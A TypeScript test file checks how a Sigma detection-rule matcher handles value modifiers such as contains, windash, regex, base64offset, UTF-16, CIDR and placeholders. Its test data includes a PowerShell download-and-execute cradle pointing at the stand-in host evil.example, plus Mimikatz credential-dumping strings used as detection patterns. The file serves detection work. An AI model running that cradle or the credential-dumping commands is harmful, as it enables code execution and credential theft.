// Every value modifier of the Sigma 2.1 appendix, with the appendix's own wording and examples.
import { describe, expect, it } from 'vitest';
import { base64Offsets } from './modifiers.ts';
import { detectionMatcher } from './testing.ts';

const sel = (item: string, opts?: { mapping?: unknown }) =>
  detectionMatcher(`selection:\n    ${item.replace(/\n/g, '\n    ')}\ncondition: selection`, opts);
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');

describe('generic modifiers', () => {
  it('all: list values are linked with AND instead of OR', () => {
    const f = sel(`CommandLine|contains|all:\n    - ' -w hidden'\n    - ' -enc '`).matches;
    expect(f({ CommandLine: 'powershell -enc AAA -w hidden' })).toBe(true);
    expect(f({ CommandLine: 'powershell -w hidden' })).toBe(false);
  });
  it('all on a single value is reported (the specification does not allow it)', () => {
    const r = sel(`CommandLine|contains|all: 'x'`);
    expect(r.issues.map((i) => i.code)).toContain('sigma.all_single');
  });
  it("startswith replaces 'adm*', endswith '*\\cmd.exe', contains puts * around the value", () => {
    expect(sel(`User|startswith: adm`).matches({ User: 'ADM_bob' })).toBe(true);
    expect(sel(`User|startswith: adm`).matches({ User: 'xadm' })).toBe(false);
    expect(sel(`Image|endswith: '\\cmd.exe'`).matches({ Image: 'C:\\Windows\\System32\\CMD.exe' })).toBe(true);
    expect(sel(`Image|endswith: '\\cmd.exe'`).matches({ Image: 'C:\\cmd.exe.bak' })).toBe(false);
    expect(sel(`CommandLine|contains: 'sekurlsa'`).matches({ CommandLine: 'x SEKURLSA::logonpasswords' })).toBe(true);
  });
  it('exists: presence only, "be it empty or null"', () => {
    const yes = sel(`EventID: 4738\nPasswordLastSet|exists: true`).matches;
    expect(yes({ EventID: 4738, PasswordLastSet: '' })).toBe(true);
    expect(yes({ EventID: 4738, PasswordLastSet: null })).toBe(true);
    expect(yes({ EventID: 4738 })).toBe(false);
    const no = sel(`PasswordLastSet|exists: false`).matches;
    expect(no({ Other: 1 })).toBe(true);
    expect(no({ PasswordLastSet: 'x' })).toBe(false);
    expect(sel(`PasswordLastSet|exists: 'yes'`).compiled).toBe(false);
  });
  it('cased: values are applied case sensitively', () => {
    const f = sel(`CommandLine|contains|cased: 'ReG'`).matches;
    expect(f({ CommandLine: 'x ReG y' })).toBe(true);
    expect(f({ CommandLine: 'x reg y' })).toBe(false);
    expect(sel(`Image|cased: 'Evil.exe'`).matches({ Image: 'evil.exe' })).toBe(false);
  });
  it('neq: the field is different from the specified values', () => {
    const f = sel(`LogonType|neq:\n    - 3\n    - 10`).matches;
    expect(f({ LogonType: 2 })).toBe(true);
    expect(f({ LogonType: 3 })).toBe(false);
    expect(f({ LogonType: '10' })).toBe(false);
    expect(f({})).toBe(false);
    expect(sel(`User|neq: SYSTEM`).matches({ User: 'system' })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('windash: -, /, en dash, em dash and horizontal bar are interchangeable before a parameter', () => {
    const f = sel(`CommandLine|windash|contains: ' -exec bypass'`).matches;
    for (const d of ['-', '/', '\u2013', '\u2014', '\u2015'])
      expect(f({ CommandLine: `powershell ${d}exec bypass` })).toBe(true);
    expect(f({ CommandLine: 'powershell exec bypass' })).toBe(false);
  });
  it('windash leaves dashes inside words alone ("-param-name": only the first dash)', () => {
    const f = sel(`CommandLine|windash|contains: ' -param-name'`).matches;
    expect(f({ CommandLine: 'x /param-name' })).toBe(true);
    expect(f({ CommandLine: 'x -param/name' })).toBe(false);
  });
  it('re: case-sensitive by default, matched anywhere in the value', () => {
    const f = sel(`CommandLine|re: 'cmd\\.exe /c [a-z]+'`).matches;
    expect(f({ CommandLine: 'C:\\cmd.exe /c whoami' })).toBe(true);
    expect(f({ CommandLine: 'C:\\CMD.EXE /c whoami' })).toBe(false);
  });
  it('re sub-modifiers i, m, s', () => {
    expect(sel(`CommandLine|re|i: 'cmd\\.exe'`).matches({ CommandLine: 'CMD.EXE' })).toBe(true);
    expect(sel(`Script|re|m: '^Invoke-Evil$'`).matches({ Script: 'x\nInvoke-Evil\ny' })).toBe(true);
    expect(sel(`Script|re: '^Invoke-Evil$'`).matches({ Script: 'x\nInvoke-Evil\ny' })).toBe(false);
    expect(sel(`Script|re|s: 'a.b'`).matches({ Script: 'a\nb' })).toBe(true);
    expect(sel(`Script|re: 'a.b'`).matches({ Script: 'a\nb' })).toBe(false);
  });
  it('re with (?i) and other inline flag forms', () => {
    expect(sel(`CommandLine|re: '(?i)cmd\\.exe'`).matches({ CommandLine: 'CMD.EXE' })).toBe(true);
    expect(sel(`CommandLine|re: '(?is)a.b'`).matches({ CommandLine: 'A\nB' })).toBe(true);
    // flags in the middle of a pattern run on re2js
    const mid = sel(`CommandLine|re: 'ab(?i)cd'`);
    expect(mid.matches({ CommandLine: 'abCD' })).toBe(true);
    expect(mid.matches({ CommandLine: 'ABcd' })).toBe(false);
    expect(sel(`CommandLine|re: 'a(?i:BC)d'`).matches({ CommandLine: 'abcd' })).toBe(true);
  });
});

describe('encoding modifiers', () => {
  it('base64: the value is encoded with Base64', () => {
    expect(b64('cmd')).toBe('Y21k');
    const f = sel(`Payload|base64: 'cmd'`).matches;
    expect(f({ Payload: 'Y21k' })).toBe(true);
    expect(sel(`Payload|base64|contains: 'http://'`).matches({ Payload: `x${b64('http://')}y` })).toBe(true);
    expect(sel(`Payload|base64: 'c*d'`).compiled).toBe(false);
  });
  it('base64offset: three variants, one per shift of zero to two bytes', () => {
    const f = sel(`CommandLine|base64offset|contains: 'http://'`).matches;
    for (const prefix of ['', 'a', 'ab', 'abc', 'IEX (New-Object Net.WebClient).DownloadString(']) {
      const text = b64(`${prefix}http://evil.example/x`);
      expect(f({ CommandLine: `powershell -enc ${text}` })).toBe(true);
    }
    expect(f({ CommandLine: b64('https//evil') })).toBe(false);
    // the three forms Sigma's documentation lists for http://
    expect(base64Offsets(Buffer.from('http://'))).toEqual(['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']);
  });
  it('utf16le / wide: cmd > 63 00 6d 00 64 00', () => {
    const le = Buffer.from('cmd', 'utf16le');
    expect([...le]).toEqual([0x63, 0, 0x6d, 0, 0x64, 0]);
    for (const mod of ['utf16le', 'wide']) {
      expect(sel(`Data|${mod}|contains: 'cmd'`).matches({ Data: `xx${le.toString('latin1')}yy` })).toBe(true);
      expect(sel(`Data|${mod}|base64: 'cmd'`).matches({ Data: le.toString('base64') })).toBe(true);
    }
  });
  it('utf16be: cmd > 00 63 00 6d 00 64', () => {
    const be = Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]);
    expect(sel(`Data|utf16be|base64: 'cmd'`).matches({ Data: be.toString('base64') })).toBe(true);
  });
  it('utf16: a byte order mark, then UTF-16: cmd > FF FE 63 00 6d 00 64 00', () => {
    const bom = Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]);
    expect(sel(`Data|utf16|base64: 'cmd'`).matches({ Data: bom.toString('base64') })).toBe(true);
  });
  it('wide|base64offset|contains finds UTF-16 text in an encoded PowerShell command', () => {
    const f = sel(`CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'`).matches;
    for (const prefix of ['', 'x', 'xy']) {
      expect(
        f({
          CommandLine: `powershell -e ${Buffer.from(`${prefix}Invoke-Mimikatz -Dump`, 'utf16le').toString('base64')}`,
        }),
      ).toBe(true);
    }
    expect(f({ CommandLine: `powershell -e ${Buffer.from('Invoke-Nothing', 'utf16le').toString('base64')}` })).toBe(
      false,
    );
  });
});

describe('numeric modifiers', () => {
  it('lt, lte, gt, gte compare numbers (event numbers or numeric text)', () => {
    expect(sel(`Count|lt: 5`).matches({ Count: 4 })).toBe(true);
    expect(sel(`Count|lt: 5`).matches({ Count: 5 })).toBe(false);
    expect(sel(`Count|lte: 5`).matches({ Count: '5' })).toBe(true);
    expect(sel(`Count|gt: 5`).matches({ Count: 6 })).toBe(true);
    expect(sel(`Count|gte: 5`).matches({ Count: 4 })).toBe(false);
    expect(sel(`Count|gt: 5`).matches({ Count: 'many' })).toBe(false);
    expect(sel(`Count|gt: five`).compiled).toBe(false);
  });
  it('neq on numbers', () => {
    expect(sel(`Port|neq: 443`).matches({ Port: 80 })).toBe(true);
    expect(sel(`Port|neq: 443`).matches({ Port: 443 })).toBe(false);
  });
});

describe('time modifiers: a part of the date, without time-zone conversion', () => {
  const t = { UtcTime: '2024-03-10 22:45:09.123' };
  it('minute, hour, day, month, year', () => {
    expect(sel(`UtcTime|minute: 45`).matches(t)).toBe(true);
    expect(sel(`UtcTime|hour: 22`).matches(t)).toBe(true);
    expect(sel(`UtcTime|hour: 23`).matches(t)).toBe(false);
    expect(sel(`UtcTime|day: 10`).matches(t)).toBe(true);
    expect(sel(`UtcTime|month: 3`).matches(t)).toBe(true);
    expect(sel(`UtcTime|year: 2024`).matches(t)).toBe(true);
  });
  it('week: ISO week number', () => {
    expect(sel(`UtcTime|week: 10`).matches(t)).toBe(true);
    expect(sel(`UtcTime|week: 1`).matches({ UtcTime: '2021-01-04T00:00:00Z' })).toBe(true);
  });
  it('a list of hours is ORed (e.g. out-of-hours logons)', () => {
    const f = sel(`UtcTime|hour:\n    - 0\n    - 1\n    - 2`).matches;
    expect(f({ UtcTime: '2024-01-01T01:30:00Z' })).toBe(true);
    expect(f({ UtcTime: '2024-01-01T09:30:00Z' })).toBe(false);
  });
});

describe('cidr', () => {
  it('DestinationIp|cidr: 10.0.0.0/8, IPv4 and IPv6', () => {
    const f = sel(`DestinationIp|cidr:\n    - 10.0.0.0/8\n    - 'fe80::/10'`).matches;
    expect(f({ DestinationIp: '10.1.2.3' })).toBe(true);
    expect(f({ DestinationIp: '11.1.2.3' })).toBe(false);
    expect(f({ DestinationIp: 'fe80::1' })).toBe(true);
    expect(f({ DestinationIp: '::ffff:10.0.0.1' })).toBe(true);
    expect(f({ DestinationIp: 'not an ip' })).toBe(false);
    expect(sel(`DestinationIp|cidr: 300.1.1.1/8`).compiled).toBe(false);
  });
});

describe('expand and placeholders', () => {
  it('field|expand: %name% is a placeholder; without expand it is a literal', () => {
    const mapping = { placeholders: { Administrators: ['adm_*', 'Administrator'] } };
    const f = sel(`User|expand: '%Administrators%'`, { mapping }).matches;
    expect(f({ User: 'adm_bob' })).toBe(true);
    expect(f({ User: 'administrator' })).toBe(true);
    expect(f({ User: 'bob' })).toBe(false);
    expect(sel(`User: '%Administrators%'`, { mapping }).matches({ User: '%Administrators%' })).toBe(true);
  });
  it('\\%plain%name% handles %plain as plain value and %name% as placeholder', () => {
    const f = sel(`F|expand: '\\%plain%name%'`, { mapping: { placeholders: { name: ['X'] } } }).matches;
    expect(f({ F: '%plainX' })).toBe(true);
    expect(f({ F: '%plain%name%' })).toBe(false);
  });
  it('a placeholder without values is not guessed: the rule is not run, and that is reported', () => {
    const r = sel(`User|expand: '%DomainControllers%'`);
    expect(r.compiled).toBe(false);
    expect(r.issues.map((i) => i.code)).toContain('sigma.placeholder_unset');
  });
});

describe('fieldref', () => {
  it('compares two fields of the event', () => {
    const f = sel(`TargetUserName|fieldref: SubjectUserName`).matches;
    expect(f({ TargetUserName: 'Bob', SubjectUserName: 'bob' })).toBe(true);
    expect(f({ TargetUserName: 'Bob', SubjectUserName: 'alice' })).toBe(false);
    expect(f({ TargetUserName: 'Bob' })).toBe(false);
  });
  it('combines with neq, startswith, endswith and contains', () => {
    expect(sel(`A|fieldref|neq: B`).matches({ A: 'x', B: 'y' })).toBe(true);
    expect(sel(`A|fieldref|neq: B`).matches({ A: 'x', B: 'X' })).toBe(false);
    expect(
      sel(`Image|fieldref|endswith: OriginalName`).matches({
        Image: 'C:\\evil\\svchost.exe',
        OriginalName: 'svchost.exe',
      }),
    ).toBe(true);
    expect(sel(`A|fieldref|startswith: B`).matches({ A: 'abc', B: 'ab' })).toBe(true);
    expect(sel(`A|fieldref|contains: B`).matches({ A: 'xaby', B: 'ab' })).toBe(true);
  });
});

describe('modifier errors are reported, never thrown', () => {
  it.each([
    ['F|nosuch: x', 'sigma.unknown_modifier'],
    ['F|contains|re: x', 'sigma.modifier_first'],
    ['F|i: x', 'sigma.modifier_needs'],
    ['F|re: "(?<=a)b"', 'sigma.regex_unsupported'],
    ['F|re: "(a"', 'sigma.regex_invalid'],
    ['F|fieldref: "a*"', 'sigma.fieldref_wildcard'],
  ])('%s', (item, code) => {
    const r = sel(item);
    expect(r.compiled).toBe(false);
    expect(r.issues.map((i) => i.code)).toContain(code);
  });
});
